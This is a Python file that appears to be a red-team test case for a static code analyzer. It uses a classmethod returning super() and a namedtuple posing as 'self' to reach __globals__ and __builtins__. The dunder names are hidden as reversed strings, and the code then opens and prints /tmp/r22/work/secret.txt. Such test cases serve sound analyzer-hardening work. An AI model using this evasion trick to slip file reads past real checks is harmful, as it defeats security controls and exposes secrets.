# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: in a classmethod, zero-argument super() is super(Sub, cls); its .fetch is the plain function of the
# base. Returning the super object itself uses no class name (nor cls) as a value, so objects._classes_as_values
# stays False and k.fetch on the parameter is taken as bound (objects._bound): Reader.fetch runs with a
# namedtuple as self and the "class constant" self.FIELDS is a run-time ["__globals__"].
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


class Sub(Reader):
    @classmethod
    def parent(cls):
        return super()


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(Sub.parent(), box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
